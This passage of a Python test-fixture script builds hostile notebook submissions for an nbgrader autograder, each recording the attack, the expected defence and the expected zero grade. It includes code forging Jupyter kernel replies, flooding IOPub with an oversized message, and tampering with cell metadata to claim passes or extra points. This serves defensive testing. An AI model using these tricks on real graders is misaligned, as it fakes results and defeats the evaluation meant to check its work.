                "update_display_data": {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": 7}},
                "made_up_type": {"anything": True},
            }
            sent = []
            for msg_type, content in forged.items():
                try:
                    session.send(kernel.iopub_socket, msg_type, content, parent=parent)
                    sent.append(msg_type)
                except Exception as exc:
                    print("could not forge", msg_type, type(exc).__name__)
            try:
                session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
                             "user_expressions": {}, "payload": []}, parent=parent,
                             ident=kernel._shell_parent_ident.get())
                sent.append("execute_reply")
            except Exception as exc:
                print("could not forge execute_reply", type(exc).__name__)
            print("forged:", sent)
            time.sleep(2)  # still running after its forged reply
            # over the grader's 16 MB cap: ZeroMQ drops it, and the kernel's IOPub with it (the cell then times out)
            session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 17_000_000}, parent=parent)
        """)),),
        expected={"test_dot": ZERO},
    ),
    Hostile(
        "metadata_tricks",
        "tampers with nbgrader's metadata: the dot test cell becomes a markdown cell, a copy of the norm test "
        "cell (same grade_id, source that prints a pass) is put before the original, a new cell claims to be "
        "a test cell worth 100 points, the project answer cell claims to be graded and worth 50, and the "
        "kernelspec names a kernel that does not exist; dot is wrong",
        "RestoreCellMetadata gives every cell the gradebook knows its instructor's flags and points and drops "
        "nbgrader metadata from any other and from every copy after the first of a cell (nbgrader's own rule; "
        "nbgrader itself failed the whole submission on the copy), OverwriteCells puts back the instructor's "
        "source and cell type, OverwriteKernelspec the kernel; the sandbox takes each test from the gradebook. "
        "The norm test that counts is the first copy, above the norm answer: it finds no norm (the order is "
        "the learner's, as in any notebook)",
        answers={"dot": "def dot(a, b):\n    return 0.0\n"},
        metadata={"project": {"grade": True, "points": 50}},
        cell_types={"test_dot": "markdown"},
        copies=(("test_norm", "norm", "print('✔ norm: all checks passed')\n", "test_norm"),
                ("test_norm", "project", "print('bonus')\n", "bonus_points")),
        notebook_metadata={"kernelspec": {"name": "no-such-kernel", "display_name": "Nothing", "language": "python"}},
        expected={"test_dot": ZERO, "test_norm": ZERO},
    ),
    Hostile(
        "too_big",
        "a notebook far larger than any learner writes (200 MB of cells would cost the grader minutes and "
        "gigabytes to parse, in its own process, twice); every function is right. The committed notebook is "
        "small: the test adds the bulk when it submits it, over the batch's lowered cap",
        "nbgrader reads submissions through CappedNotebookExporter, which refuses a file over "
        "c.CappedNotebookExporter.max_bytes (16 MiB) before reading it: that learner is reported as not "
        "graded, with the reason, and the batch goes on",
        oversize=3_000_000,
    ),
    Hostile(
        "deep_source",
        "cells Python's own parser cannot read: an expression nested 5,000 deep (1+1+...: a RecursionError in "
        "the parser, which the grader's own parsers raised too, failing the whole notebook in nbgrader) and a "
        "cell with a NUL character; every function is right",
        "such a cell fails in the kernel as any compile error does; the grader replaces it, for the sandbox and "
        "the checks' allowlist, by a line raising the same error (unreadable_as_error), and the suspect-construct "
        "scan and the class report treat unreadable source as no source",
        added=(("dot_loop", "deep = 1" + "+1" * 5000 + "\n"), ("dot", "nul = 1  # \x00 a NUL in a cell\n")),
    ),
    Hostile(
        "not_json",
        "a notebook file cut short, so that it is not JSON (the test cuts the committed notebook when it "
        "submits it); every function is right",
        "nbgrader cannot read it: that learner is reported as not graded, with nbformat's NotJSONError, and the "
        "batch goes on",
        corrupt="not_json",
    ),
    Hostile(
        "nbformat_5",
        "a notebook that claims nbformat 5, a version that does not exist (set by the test when it submits it); "
        "every function is right",
        "nbgrader cannot read it: that learner is reported as not graded (Unsupported nbformat version 5), and "
        "the batch goes on",
        corrupt="nbformat_5",
    ),
    Hostile(
        "source_not_text",
        "a notebook whose dot answer cell's source is the number 12, not text (set by the test when it submits "
        "it); every function is right",
        "nbformat's validation refuses it: that learner is reported as not graded, and the batch goes on",
        corrupt="source_not_text",
    ),
]


def _solution_sources() -> dict[str, str]:
    nb = nbformat.read(COURSE / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: _strip_solution(c.source)
            for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")}


def _strip_solution(source: str) -> str:
    # a learner's notebook has no solution markers: keep what is between them
    return "\n".join(line for line in source.splitlines() if "### BEGIN SOLUTION" not in line
                     and "### END SOLUTION" not in line) + "\n"


def build(entry: Hostile) -> nbformat.NotebookNode:
    """The entry's notebook: the release, answered correctly, then the entry's changes."""
    nb = nbformat.read(COURSE / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    sources = {**_solution_sources(), **entry.answers}
    added = {}
    for after, source in entry.added:
        added.setdefault(after, []).append(source)
    by_id = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    cells = []
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in entry.deleted:
            continue
        for original, before, source, claimed in entry.copies:
            if before == grade_id:
                twin = copy.deepcopy(by_id[original])
                twin.source, twin.metadata["nbgrader"]["grade_id"] = source, claimed
                cells.append(twin)
        cell = copy.deepcopy(cell)
        if grade_id in entry.cell_types and cell.cell_type != entry.cell_types[grade_id]:
            cell = (nbformat.v4.new_markdown_cell if entry.cell_types[grade_id] == "markdown"
                    else nbformat.v4.new_code_cell)(cell.source, metadata=cell.metadata)
        if grade_id in sources:
            cell.source = sources[grade_id]
        if grade_id in entry.metadata:
            cell.metadata["nbgrader"].update(entry.metadata[grade_id])
        cells.append(cell)
        for source in added.get(grade_id, []):
            cells.append(nbformat.v4.new_code_cell(source))
        if grade_id in entry.sleepy:
            cell.source = cell.source.replace("):\n", f"):\n{_WAIT}", 1)
        for after, source in entry.markdown:
            if after == grade_id:
                cells.append(nbformat.v4.new_markdown_cell(source))
    nb.cells = cells
    nb.metadata.update(copy.deepcopy(entry.notebook_metadata))
    nb.metadata["hostile"] = {"attack": entry.attack, "defence": entry.defence, "expected": entry.expected}
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"{entry.name}-{i}"  # stable ids: rebuilding changes nothing
    return nb


def path(entry: Hostile) -> Path:
    return HERE / f"{entry.name}.ipynb"


def write_all() -> list[Path]:
    written = []
    for entry in CATALOGUE:
        nbformat.write(build(entry), path(entry))
        written.append(path(entry))
    return written


if __name__ == "__main__":
    for written in write_all():
        print(f"wrote {written.relative_to(COURSE)}")
